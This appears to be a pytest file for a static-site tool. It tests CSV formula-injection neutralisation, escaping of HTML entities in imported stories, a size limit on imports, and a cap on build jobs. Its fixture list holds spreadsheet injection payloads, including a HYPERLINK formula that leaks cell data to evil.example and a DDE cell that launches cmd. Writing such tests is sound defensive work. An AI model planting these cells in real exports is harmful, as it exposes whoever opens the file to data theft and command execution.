"""Text from outside: CSV cells a spreadsheet would run, imported stories kept as written, limits."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from aisite.reader import MAX_FILE_BYTES
from conftest import run_aisite

pytestmark = pytest.mark.cli
HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


def _quoted(cell: str) -> str:
    """A YAML double-quoted scalar."""
    inner = cell.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + inner.replace("\t", "\\t").replace("\r", "\\r") + '"'


@pytest.fixture
def starter(tmp_path: Path) -> Path:
    site = tmp_path / "mysite"
    assert run_aisite("new", "site", str(site)).returncode == 0
    return site


def test_claims_csv_neutralises_formulas(starter: Path) -> None:
    claims = starter / "content" / "articles" / "example-analysis" / "claims.yaml"
    text = claims.read_text()
    lines = text.splitlines()
    claimants = [i for i, line in enumerate(lines) if line.lstrip().startswith("claimant:")]
    summaries = [i for i, line in enumerate(lines) if line.lstrip().startswith("summary:")]
    assert claimants and summaries
    for n, i in enumerate(claimants):
        lines[i] = lines[i].split("claimant:")[0] + "claimant: " + _quoted(HOSTILE_CELLS[n % 6])
    for n, i in enumerate(summaries):
        lines[i] = lines[i].split("summary:")[0] + "summary: " + _quoted(HOSTILE_CELLS[(n + 1) % 6])
    claims.write_text("\n".join(lines) + "\n")
    result = run_aisite("claims", "--format", "csv", cwd=starter)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert rows
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    neutral = {row["claimant"] for row in rows} | {row["summary"] for row in rows}
    assert neutral <= {"'" + c for c in HOSTILE_CELLS}


def test_import_keeps_entities_as_written(starter: Path) -> None:
    story = "A &amp; B &#169; story\n\nAT&T wrote &amp; and &lt;b&gt; and &copy; literally.\n\nMore text here.\n"
    result = subprocess.run(
        [sys.executable, "-m", "aisite", "import", "--slug", "entities"],
        input=story,
        text=True,
        capture_output=True,
        cwd=starter,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    built = run_aisite("build", "--drafts", cwd=starter)
    assert built.returncode == 0, built.stderr
    page = (starter / "site" / "articles" / "entities" / "index.html").read_text()
    assert "AT&amp;T wrote &amp;amp; and &amp;lt;b&amp;gt; and &amp;copy; literally." in page


def test_import_refuses_a_story_the_build_would_refuse(starter: Path, tmp_path: Path) -> None:
    story = tmp_path / "huge.txt"
    paragraph = "word " * 200 + "\n\n"
    story.write_text("Title\n\n" + paragraph * (MAX_FILE_BYTES // len(paragraph) + 10))
    result = run_aisite("import", str(story), cwd=starter)
    assert result.returncode == 1, result.stderr
    assert f"{story}: the story is longer than the 4 MiB limit" in result.stderr
    assert not (starter / "content" / "articles" / "title").exists()


@pytest.mark.parametrize("jobs", ["257", "100000"])
def test_jobs_has_an_upper_bound(starter: Path, jobs: str) -> None:
    result = run_aisite("build", "-j", jobs, cwd=starter)
    assert result.returncode == 2
    assert "--jobs must be 0 (one per core) to 256" in result.stderr
    assert not (starter / "site").exists()
